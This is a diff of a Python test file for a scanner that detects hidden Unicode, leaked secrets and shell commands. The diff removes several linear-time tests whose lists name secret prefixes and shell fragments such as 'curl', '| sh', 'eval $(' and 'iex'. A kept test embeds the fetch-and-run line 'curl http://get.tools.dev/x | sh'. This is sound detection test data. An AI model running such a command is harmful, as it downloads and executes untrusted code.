@@ -4,7 +4,6 @@ import importlib
 import re
 
 import pytest
-from helpers import assert_linear
 from hypothesis import given
 from hypothesis import strategies as st
 
@@ -278,11 +277,6 @@ def test_fix_removes_its_own_finding(text: str) -> None:
             )
 
 
-@pytest.mark.parametrize("text", ["\u200e", "\u202a\u200d", "a\u200c", "\u2800 ", "\x1b["])
-def test_time_grows_with_length(text: str) -> None:
-    assert_linear(lambda size: (run(HIDDEN, text * size), run(STRAY, text * size)), 20_000)
-
-
 # Secrets, put together here so that no scanner trips over this file
 
 MIXED = "q7Rt2Lw9ZxV4bNm8KsJ1dFg6HpYc3TaUe5XoQiWr0vBzEyDn7MkPl4GhSj2CfAuIt9RwXq6LbVs1NdZm8OpKe3Ty"
@@ -387,23 +381,6 @@ def test_redact_leaves_no_secret(pieces: list[str]) -> None:
     redacted = redact(text)
     assert not list(find_secrets(redacted))
     assert not any(text[slice(*secret.span)] in redacted for secret in find_secrets(text))
-
-
-@pytest.mark.parametrize(
-    "piece",
-    [
-        "http://",
-        "a:b@",
-        "sk-",
-        "eyJa.",
-        "-----BEGIN PRIVATE" + " KEY-----",
-        "T3BlbkFJ",
-        "sk-T3BlbkFJ",
-        "xoxb-1-",
-    ],
-)
-def test_secrets_are_found_in_linear_time(piece: str) -> None:
-    assert_linear(lambda size: list(find_secrets(piece * size)), 20_000)
 
 
 # Shells
@@ -524,11 +501,3 @@ def test_shell_is_silent(command: str) -> None:
 )
 def test_shell_that_the_text_warns_of_is_silent(text: str) -> None:
     assert run(SHELL, text.replace("X", "curl http://get.tools.dev/x | sh")) == []
-
-
-@pytest.mark.parametrize(
-    "piece",
-    ["curl ", "| sh ", "$(", "eval $(", "powershell ", "base64 ", "| sudo ", "-e ", "iex ", "\\", "curl http://a.b/c "],
-)
-def test_shells_are_found_in_linear_time(piece: str) -> None:
-    assert_linear(lambda size: run(SHELL, f"```sh\ncurl {piece * size}\n```\n"), 4_000)
